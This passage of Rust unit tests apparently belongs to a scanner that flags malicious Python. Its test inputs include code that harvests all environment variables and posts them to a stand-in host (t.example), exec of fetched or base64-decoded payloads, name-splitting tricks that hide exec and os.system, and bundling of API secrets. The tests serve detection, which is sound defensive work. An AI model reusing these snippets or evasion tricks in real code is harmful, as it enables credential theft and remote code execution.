        assert!(rules("import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n").is_empty());
        assert!(rules(
            "import os, requests\nrequests.post('http://127.0.0.1:9/x', json=dict(os.environ))\n"
        )
        .is_empty());
        assert!(rules("import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post(base + '/v1/chat', headers={'Authorization': f'Bearer {key}'}, json=body)\n").is_empty());
    }

    #[test]
    fn methods_pass_their_arguments_after_self() {
        let code = "import os, requests\nclass H:\n    def harvest(self):\n        out = {}\n        for k, v in os.environ.items():\n            out[k] = v\n        return out\n    def send(self, data):\n        requests.post('https://t.example/s', json={'d': data})\nh = H()\nh.send(h.harvest())\n";
        assert_eq!(rules(code), vec!["EXF020"]);
    }

    #[test]
    fn code_that_runs_what_it_fetched_or_decoded() {
        assert_eq!(rules("import urllib.request\nexec(urllib.request.urlopen('https://t.example/p').read())\n"), vec!["SUP020"]);
        assert_eq!(
            rules("import requests\ncode = requests.get(u).text\nexec(code)\n"),
            vec!["SUP020"]
        );
        assert_eq!(
            rules("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
            vec!["EXE020"]
        );
        assert_eq!(
            rules(
                "import subprocess\nsubprocess.run(open('references/.task').read(), shell=True)\n"
            ),
            vec!["EXE020"]
        );
        assert!(rules("import subprocess\nsubprocess.run(['git', 'status'])\nexec(open('pkg/version.py').read())\n").is_empty());
        // Runners looked up by a name spelt in pieces.
        for call in [
            "getattr(builtins, 'ex' + 'ec')(code)",
            "getattr(__builtins__, 'eval')(code)",
            "__builtins__.__dict__['ex' 'ec'](code)",
            "getattr(__import__('o' + 's'), 'system')(code)",
            "importlib.import_module('os').system(code)",
        ] {
            let text = format!("import builtins, base64, importlib\ncode = base64.b64decode('cHJpbnQoMSk=')\n{call}\n");
            assert_eq!(rules(&text), vec!["EXE020"], "{call}");
        }
        assert!(rules(
            "import builtins\nf = getattr(builtins, 'print')\nf(open('notes.txt').read())\n"
        )
        .is_empty());
    }

    #[test]
    fn bundles_of_secrets() {
        assert_eq!(rules("import os, json\ns = {'A': os.environ['JWT_SECRET'], 'B': os.environ['SENDGRID_API_KEY']}\np = json.dumps(s)\n"), vec!["CRD020"]);
        assert!(
            rules("import os\ncfg = {'key': os.environ['OPENAI_API_KEY'], 'model': 'x'}\n")
                .is_empty()
        );
    }

    #[test]
    fn hostile_input_is_bounded() {
        let _ = rules(&format!(
            "x = {}1{}",
            "(".repeat(20_000),
            ")".repeat(20_000)
        ));
        let _ = rules(&"a = a + a\n".repeat(5_000));
        let _ = rules(&format!("s = '{}'", "x".repeat(1 << 20)));
    }
}
